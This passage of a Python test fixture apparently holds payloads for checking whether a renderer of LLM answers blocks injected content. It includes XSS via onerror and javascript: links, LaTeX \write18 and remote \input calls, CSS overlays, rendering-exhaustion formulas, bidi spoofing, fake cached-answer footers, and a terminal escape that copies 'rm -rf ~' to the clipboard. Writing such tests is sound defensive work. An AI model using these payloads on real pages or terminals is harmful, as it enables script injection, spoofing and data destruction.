    "late_row_gap": "$$\n\\begin{aligned}a\\\\[99999cm]b\\\\*[99999cm]c\\\\ [99999cm]d\\end{aligned}\n$$",
    "late_row_gap_macro": r"$\begin{matrix}a\\{}[99999cm]b\cr[99999cm]c\\%"
    "\n[9999cm]d\\end{matrix}$",
    "late_strut": r"$\mathstrut\rule[99999cm]{1em}{99999cm}\raise99999cm{x}\lower9999cm{y}\moveleft9999cm{z}$",
    "late_scale": r"$\scalebox{99999}{x}$ $\Huge\Huge\Huge x$ $\fontsize{99999}{1}x$ $\class{jp-Dialog}{x}$",
    "late_tower": "$x"
    + "^{x" * 29
    + "}" * 29
    + "$ $"
    + r"\underbrace{" * 29
    + "x"
    + "}" * 29
    + "$",
    "late_fractions": "$" + r"\cfrac{1}{1+" * 29 + "x" + "}" * 29 + "$",
    "late_left_right": "$" + r"\left(" * 29 + "x" + r"\right)" * 29 + "$",
    "late_columns": "$$\n\\begin{array}{" + "c" * 40 + "}\n" + "&" * 1_500 + "\n\\end{array}\n$$",
    "late_rows": "$$\n\\begin{aligned}\n" + "\\\\" * 99 + "\n\\end{aligned}\n$$",
    "late_phantoms": "$" + r"\phantom{\frac{\frac{\frac{x}{x}}{x}}{x}}" * 45 + "$",
    "late_combining": "$" + "a" + "\u0301\u0330" * 900 + "$",
    "late_let": r"$\let\frac\sqrt$ $\global\let\alpha\beta$ $\futurelet\x\y$ $\edef\x{HIT}\xdef\y{HIT}\gdef\z{HIT}$ $\frac{1}{2}$",
    "late_renew": r"$\renewcommand{\pi}{3}\providecommand{\q}{1}\DeclareMathOperator{\sin}{cos}\newenvironment{matrix}{}{}$ $\pi$",
    "late_counters": "$$\n\\setcounter{equation}{99999}\\tag{\\href{javascript:HIT}{1}}\\label{foreign}x\n$$ $\\ref{foreign}\\eqref{foreign}$",
    "late_tag_markup": "$$\nx\\tag{<img src=x onerror=HIT>}\n$$\n\n$$\nx\\tag{$\\href{javascript:HIT}{y}$}\n$$",
    "late_text_escape": r"$\text{\href{javascript:HIT}{x}}$ $\mbox{$\href{javascript:HIT}{y}$}$ $\text{\(\href{javascript:HIT}{z}\)}$",
    "late_text_markup": r"$\text{</span><img src=x onerror=HIT>}$ $\operatorname{<b onclick=HIT>}$",
    "late_color": r"$\color{white}$ $\textcolor[rgb]{1,1,1}{x}$ $\colorbox{white}{x}\fcolorbox{white}{white}{x}$ $\pagecolor{white}$ $\color[named]{white}x$",
    "late_style": r"$\style{position:fixed;top:0;left:0;font-size:99em}{x}$ $\cssId{foreign}{x}$ $\bbox[9999px,border:9999px solid red]{x}$ $\enclose{box}[style='position:fixed']{x}$",
    "late_url": r"$\url{URL/u}\nolinkurl{URL/n}\hyperref[foreign]{x}\href{URL/h}{x}$ \(\unicode[URL/f]{65}\)",
    "late_require": r"$\require{html}\require{action}\toggle{\href{javascript:HIT}{a}}{b}\endtoggle\mathtip{a}{b}\texttip{a}{b}$",
    "late_input": r"$\input{URL/i}\include{URL/j}\openin1=x\write18{HIT}\directlua{HIT}\special{html:<script>HIT</script>}$",
    "late_comment": "$a%\n\\href{javascript:HIT}{x}$ $a\\%\\href{javascript:HIT}{x}$ $\\verb|\\href{javascript:HIT}{x}|$",
    "late_between": "$a$<img src=x onerror=HIT>$b$ `$`$\\href{javascript:HIT}{x}$`$` | $a$ |\n|---|\n| $\\href{javascript:HIT}{x}$ |",
    "late_definition_across": "Let $\\def\\x#1{\\href{javascript:HIT}{#1}}$ hold. Then\n\n| a |\n|---|\n| $\\x{y}$ |\n\n- $\\x{z}$",
    "late_environment_names": r"\begin{equation}\href{javascript:HIT}{x}\end{equation} \begin{CD}A@>\href{javascript:HIT}{f}>>B\end{CD} \begin{prooftree}\AXC{\href{javascript:HIT}{x}}\end{prooftree}",
    "late_mathchoice": r"$\mathchoice{\href{javascript:HIT}{a}}{b}{c}{d}\mathpalette\href{javascript:HIT}$ $\ce{\href{javascript:HIT}{H2O}}\pu{1\href{javascript:HIT}{m}}$",
    "late_html_in_link": '[a](https://a.org/"onmouseover="HIT) [b](<https://a.org/>onclick=HIT>) [c](https://a.org/ \'x"><img src=x onerror=HIT>\')',
    "late_calls": "calls search(query='<img src=x onerror=HIT>')\n\n[image/png · <script>HIT</script>]",
}

_TEXT = {
    "bidi_override": "safe \u202egnp.exe\u202c \u2066x\u2069 \u2067y\u2069",
    "hidden_tags": "x\U000e0041\U000e0042\U000e007fy",
    "control_characters": "a\x00b\x01c\x07d\x08e\x0bf\x0cg\x7fh\x85i\x9bj",
    "carriage_return": "fresh\rcached\r\n\rx",
    "separators": "a\u2028<img src=x onerror=HIT>\u2029b\ufeffc\ufff9d",
    "null_in_tag": "<scr\x00ipt>HIT</scr\x00ipt><img src=x on\x00error=HIT>",
    "surrogate": "x\ud800y\udfff",
    "noncharacter": "x\ufffe\uffff\U0010ffffy",
    "escape_clear": "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
    "escape_title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "escape_clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "escape_link": "\x1b]8;;URL/osc8\x07x\x1b]8;;\x07",
    "escape_c1": "\x9b2J\x9d0;owned\x9c\x90q\x9c",
    "escape_ansi_html": "\x1b[38;5;1m<img src=x onerror=HIT>\x1b[0m",
    "full_width": "\uff1cscript\uff1eHIT\uff1c/script\uff1e \u02bbonerror",
    "imitation": "Yes.\n\ncached · 1.1 ms · saved 828 ms · 24 tokens not billed again · openai:gpt-x",
    "imitation_html": (
        '<div role="note" aria-label="LLM answer"><details open id="foreign"><summary>cached · 1.1 ms'
        "</summary></details></div>"
    ),
}

#: Name -> what a model answers, with URL and HIT in it.
SNIPPETS: dict[str, str] = {
    **_HTML,
    **_LINKS,
    **_IMAGES,
    **_CSS,
    **_JUPYTER,
    **_FORMULAS,
    **_GREEDY_FORMULAS,
    **_EXTENSIONS,
    **_PARTS,
    **_SEAMS,
    **_MORE,
    **_TEXT,
}


def snippets(url: str) -> dict[str, str]:
    """Return all snippets; each calls ``url`` under its own name and ``PWNED`` says whose it was."""
    return {
        name: text.replace("HIT", HIT).replace("URL", f"{url}/{name}")
        for name, text in SNIPPETS.items()
    }
